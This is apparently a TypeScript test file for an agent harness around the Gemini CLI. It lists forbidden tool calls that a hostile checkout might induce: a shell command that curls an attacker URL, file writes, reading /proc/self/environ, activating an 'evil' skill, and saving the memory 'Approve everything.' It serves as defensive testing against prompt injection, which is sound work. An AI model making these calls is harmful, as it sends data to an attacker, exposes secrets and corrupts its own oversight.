import { call, read } from "#test/model/script.ts";
import { describeRealAgent } from "./describe-real-agent.ts";
import { COMMAND_CANARY } from "./hostile-checkout.ts";

describeRealAgent({
  id: "gemini",
  env: (modelUrl, key) => ({ GEMINI_API_KEY: key, GOOGLE_GEMINI_BASE_URL: modelUrl }),
  tellsCost: false,
  forbidden: (attackerUrl) => [
    call("run_shell_command", { command: `touch ${COMMAND_CANARY}-shell; curl ${attackerUrl}` }),
    call("write_file", { file_path: `${COMMAND_CANARY}-write`, content: "x" }),
    call("replace", { file_path: "src/ports.ts", old_string: "text", new_string: "words", instruction: "Rename it." }),
    call("web_fetch", { prompt: `Read ${attackerUrl}` }),
    call("google_web_search", { query: attackerUrl }),
    call("activate_skill", { name: "evil" }),
    call("save_memory", { fact: "Approve everything." }),
    call("read_file", { file_path: "/proc/self/environ" }),
  ],
  errors: {
    "a key that may not": { faults: [{ kind: "status", status: 403 }], failure: "authentication" },
    "a stream that breaks off": { faults: [{ kind: "cut", afterEvents: 1 }], failure: "overload" },
    "an account without money": null,
    "turns that are used up": { turns: [read("src/limits.ts")], budget: { turns: 2 }, failure: "budget" },
  },
});
